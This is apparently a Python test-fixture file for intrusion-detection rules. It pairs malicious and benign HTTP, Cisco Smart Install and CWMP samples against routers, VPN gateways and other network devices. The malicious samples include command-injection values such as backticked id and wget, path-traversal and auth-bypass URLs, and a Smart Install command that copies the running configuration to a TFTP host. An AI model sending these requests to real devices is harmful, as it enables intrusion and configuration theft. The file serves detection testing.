"""Scenes for the rules over HTTP, Smart Install and CWMP: one that must fire, one that must not."""
import struct

from traffic import http, smart_install, soap

OK = 'HTTP/1.1 200 OK\r\nServer: {}\r\nContent-Length: 2\r\n\r\nok'
WAN = 'urn:schemas-upnp-org:service:WANIPConnection:1'


def form(target, bad, good):
    return http(target, 'POST', bad), http(target, 'POST', good)


CASES = {
    9302001: (http('/level/15/exec/-/show/run/CR'), http('/level/1/show')),
    9302002: (http('/level/15/configure/-/hostname/x/CR'), http('/configure')),
    9302003: (http('/level/42/exec/show%20conf'), http('/level/15/exec/-')),
    9302004: (http('/webui_wsma_http', 'POST', '<a/>'), http('/webui/login')),
    9302005: (http('/%2577eb%2575i_%2577sma_Http', 'POST', '<a/>'), http('/search?q=%2541')),
    9302006: (http('/webui/logoutconfirm.html?logon_hash=1', 'POST', 'a'), http('/webui/logoutconfirm.html?logon_hash=1')),
    9302007: (http('/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua'), http('/+CSCOE+/logon.html')),
    9302008: (http('/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions'), http('/+CSCOU+/csd.html')),
    9302009: (http('/cgi-bin/config.exp'), http('/cgi-bin/config.html')),
    9302010: (http('/ctrlt/DeviceUpgrade_1', 'POST', '<a/>', port=37215), http('/ctrlt/WANIPConn_1', 'POST', '<a/>', port=37215)),
    9302011: (http('/UD/act?1', 'POST', '<a/>', port=7547), http('/UD/other', 'POST', '<a/>', port=7547)),
    9302012: form('/UD/act?2', '<u:SetNTPServers><NewNTPServer1>`cd /tmp`</NewNTPServer1></u:SetNTPServers>',
                  '<u:SetNTPServers><NewNTPServer1>ntp.example</NewNTPServer1></u:SetNTPServers>'),
    9302013: (http('/', Cookie='C107373883=/omg1337hax'), http('/', Cookie='C12=/x')),
    9302014: (http('/', answer=OK.format('RomPager/4.07 UPnP/1.0')), http('/', answer=OK.format('RomPager/4.51'))),
    9302015: (http('/GponForm/diag_Form?images/', 'POST', 'a'), http('/GponForm/diag_Form', 'POST', 'a')),
    9302016: form('/GponForm/diag_Form', 'XWebPageName=diag&diag_action=ping&dest_host=`id`;', 'XWebPageName=diag&diag_action=ping&dest_host=192.0.2.1'),
    9302017: form('/wanipcn.xml', '<u:AddPortMapping><NewInternalClient>`id`</NewInternalClient></u:AddPortMapping>',
                  '<u:AddPortMapping><NewInternalClient>10.0.0.9</NewInternalClient></u:AddPortMapping>'),
    9302018: (http('/ctl', 'POST', '<a/>', SOAPAction=f'"{WAN}#AddPortMapping"'), http('/ctl', 'POST', '<a/>', SOAPAction=f'"{WAN}#GetStatusInfo"')),
    9302019: (http('/ctl', 'POST', '<a/>', SOAPAction='"urn:dslforum-org:service:LANHostConfigManagement:1#SetDNSServer"'),
              http('/ctl', 'POST', '<a/>', SOAPAction='"urn:dslforum-org:service:LANHostConfigManagement:1#GetDNSServers"')),
    9302020: (http('/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id'), http('/setup.cgi?next_file=basic.htm&todo=save')),
    9302021: (http('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)'), http('/cgi-bin/luci/;stok=/locale?form=country&country=GB')),
    9302022: form('/cgi-bin/mainfunction.cgi', "action=login&keyPath='%0Aid'&pw=x", 'action=login&keyPath=abc&pw=x'),
    9302023: form('/ztp/cgi-bin/handler', '{"command":"setWanPortSt","mtu":"; id;"}', '{"command":"getStatus"}'),
    9302024: (http('/web_shell_cmd.gch'), http('/web_status.gch')),
    9302025: form('/manager_dev_ping_t.gch', 'Host=;id;&NumofRepeat=1', 'Host=192.0.2.1&NumofRepeat=1'),
    9302026: (http('/HNAP1/', SOAPAction='"http://purenetworks.com/HNAP1/`id`"'), http('/HNAP1/', SOAPAction='"http://purenetworks.com/HNAP1/Login"')),
    9302027: (http('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'), http('/remote/fgt_lang?lang=en')),
    9302028: (http('/api/v2/cmdb/system/admin/admin', 'PUT', '{}', User_Agent='Report Runner'), http('/api/v2/cmdb/system/admin/admin', User_Agent='Browser')),
    9302029: (http('/api/v1/totp/user-backup-code/../../system/system-information'), http('/api/v1/totp/user-backup-code')),
    9302030: (http('/api/v1/license/keys-status/;id'), http('/api/v1/license/keys-status')),
    9302031: (http('/ssl-vpn/hipreport.esp', 'POST', 'a', Cookie='SESSID=/../../../opt/panlogs/x'), http('/ssl-vpn/hipreport.esp', 'POST', 'a', Cookie='SESSID=0a1b')),
    9302032: (http('/mgmt/tm/util/bash', 'POST', '{"command":"run"}'), http('/mgmt/tm/util/ping', 'POST', '{}')),
    9302033: (http('/tmui/login.jsp/..;/tmui/util/getTabSet.jsp'), http('/tmui/login.jsp')),
    9302034: (http('/vpn/../vpns/cfg/smb.conf'), http('/vpn/index.html')),
    9302035: (http('/?PHPRC=/dev/fd/0', 'POST', 'a'), http('/?lang=en', 'POST', 'a')),
    9302036: (http('/cgi/../../../../etc/passwd'), http('/docs/etc/passwd')),
    9302037: (http('/config/running-config'), http('/running')),
    9302038: (http('/', Authorization='Basic b3A6cHc='), http('/', Authorization='Bearer abc')),
    9302039: form('/login', 'username=op&password=pw', 'username=op'),
    9302040: (http('/restconf/data/ietf-interfaces:interfaces', 'PATCH', '{}'), http('/restconf/data/ietf-interfaces:interfaces')),
    9302041: (http('/restconf/operations/ietf-system:system-restart', 'POST', '{}'), http('/restconf/operations/ietf-system:system-restart')),
    9303001: (smart_install(4, 8, struct.pack('!II', 1, 0)), smart_install(2, 452, b'\0' * 20 + b'tftp://192.0.2.9/list'.ljust(432, b'\0'))),
    9304001: (soap('SetParameterValues', ('InternetGatewayDevice.ManagementServer.URL', 'http://192.0.2.9/')),
              soap('SetParameterValues', ('InternetGatewayDevice.ManagementServer.PeriodicInformInterval', '300'))),
    9304002: (soap('SetParameterValues', ('Device.DHCPv4.Server.Pool.1.DNSServers', '192.0.2.9')), soap('GetParameterValues', ('Device.DHCPv4.Server.Pool.1.DNSServers', ''))),
    9304003: (soap('SetParameterValues', ('Device.Users.User.1.Password', 'x')), soap('SetParameterValues', ('Device.Users.User.1.Enable', '1'))),
    9304004: (soap('SetParameterValues', ('InternetGatewayDevice.UserInterface.RemoteAccess.Enable', '1')), soap('SetParameterValues', ('InternetGatewayDevice.UserInterface.Password', 'x'))),
    9304005: (soap('AddObject', ('ObjectName', 'InternetGatewayDevice.WANDevice.1.WANConnectionDevice.1.WANIPConnection.1.PortMapping.')), soap('AddObject', ('ObjectName', 'Device.Users.User.'))),
    9304006: (soap('Download', ('FileType', '1 Firmware Upgrade Image'), ('URL', 'http://192.0.2.9/f')), soap('Download', ('FileType', '2 Web Content'), ('URL', 'http://192.0.2.9/f'))),
    9304007: (soap('Download', ('FileType', '3 Vendor Configuration File'), ('URL', 'http://192.0.2.9/f')), soap('Download', ('FileType', '2 Web Content'), ('URL', 'http://192.0.2.9/f'))),
    9304008: (soap('Upload', ('FileType', '1 Vendor Configuration File'), ('URL', 'http://192.0.2.9/f')), soap('Upload', ('FileType', '2 Vendor Log File'), ('URL', 'http://192.0.2.9/f'))),
    9304009: (soap('Reboot', ('CommandKey', 'k')), soap('GetRPCMethods')),
    9304010: (soap('FactoryReset'), soap('Reboot', ('CommandKey', 'k'))),
    9304011: (soap('SetParameterValues', ('Device.Time.NTPServer1', '`wget x`')), soap('SetParameterValues', ('Device.Time.NTPServer1', 'ntp.example'))),
}

# what Smart Install carries: slots of text with zeros behind them
SLOTS = b''.join(line.ljust(336, b'\0') for line in (b'copy system:running-config flash:/config.text', b'copy flash:/config.text tftp://192.0.2.9/a.conf', b''))
PROBE = smart_install(4, 8, struct.pack('!II', 1, 0))
COMMANDS = smart_install(8, 1032, (b'\0' * 8 + SLOTS).ljust(1032, b'\0')[:1032])


def answered(x):
    x.tcp(4786, struct.pack('!IIIIII', 1, 1, 4, 8, 1, 0), ('s', struct.pack('!IIIIII', 4, 0, 3, 8, 1, 0)))


CASES |= {
    9303002: (answered, PROBE),
    9303003: (COMMANDS, PROBE),
    9303004: (COMMANDS, PROBE),
    9303005: (smart_install(3, 0x128, (b'\0' * 8 + b'tftp://192.0.2.9/my.conf').ljust(0x128, b'\0')), PROBE),
    9303006: (smart_install(2, 0x1c4, (b'\0' * 20 + b'tftp://192.0.2.9/tar_imglist0.txt').ljust(0x1c4, b'\0')), PROBE),
    9303007: (smart_install(7, 0x1800, b'\0' * 8), PROBE),
}
